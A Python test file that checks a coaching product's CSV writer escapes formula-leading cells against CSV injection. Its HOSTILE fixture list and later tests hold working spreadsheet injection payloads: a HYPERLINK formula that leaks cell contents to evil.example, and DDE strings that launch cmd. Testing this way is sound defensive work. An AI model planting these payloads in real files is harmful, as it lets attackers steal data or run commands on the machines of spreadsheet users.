"""Issue 18: formula-leading cells are escaped in every CSV the product writes (OWASP)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from bot.context import AppContext
from coaching.csv_safe import FORMULA_START, SafeWriter, escape_cell, unescape_cell
from coaching.scoring.engine import Component, Scorecard
from coaching.scoring.export import to_csv
from tests.ingest_helpers import run, seed_cases, world, write

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "plain 文本",
    "",
]


def is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


def test_round_trip_hostile_cells() -> None:
    buf = io.StringIO()
    SafeWriter(buf).writerow([*HOSTILE, -3.5, 42])
    back = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert not any(is_formula(c) for c in back[: len(HOSTILE)]), back
    assert [unescape_cell(c) for c in back[: len(HOSTILE)]] == HOSTILE
    assert back[-2:] == ["-3.5", "42"]  # numbers are not text: left alone
    assert escape_cell("plain") == "plain" and escape_cell(None) is None


def test_rejects_file_escapes_formulas(ctx: AppContext, tmp_path: Path) -> None:
    world(ctx)
    seed_cases(ctx, tmp_path)
    head = "通话编号,案件编号,开始时间,通话时长,通话结果\n"
    bad = '"=HYPERLINK(""http://evil.example"",""x"")",K1,2026-03-02 09:15,-1,@rpc\n'
    path = write(tmp_path / "calls.csv", head + bad + "A2,K1,2026-03-02 09:20,5,rpc\n")
    rep = run(ctx, "calls", path, skip_invalid=True)
    assert rep.rejected == 1 and rep.rejects_path
    rows = list(csv.reader(Path(rep.rejects_path).read_text(encoding="utf-8-sig").splitlines()))
    cells = [c for r in rows for c in r]
    assert not any(is_formula(c) for c in cells), rows
    assert '\'=HYPERLINK("http://evil.example","x")' in cells and "'@rpc" in cells


def test_score_csv_escapes_formulas() -> None:
    card = Scorecard(
        employee_id=1,
        employee_no="=1+1",
        name='=HYPERLINK("http://evil.example","王")',
        branch_id=1,
        branch_code="SH",
        team_id=None,
        team_code="+T",
        team_name=None,
        profile="collector",
        month=date(2026, 3, 1),
        components={"calls": Component("calls", 0.5, raw=-1.0, score=10.0)},
        total=-5.0,
        vetoed=True,
        veto_reason="@complaint",
    )
    rows = list(csv.reader(to_csv([card]).splitlines()))
    data = dict(zip(rows[0], rows[1], strict=True))
    assert not any(is_formula(c) for c in rows[1] if not c.lstrip("-").replace(".", "").isdigit())
    assert data["name"] == "'" + card.name and data["employee_no"] == "'=1+1"
    assert data["veto_reason"] == "'@complaint" and data["team"] == "'+T"
    assert data["total"] == "-5.0" and data["calls_raw"] == "-1.0"
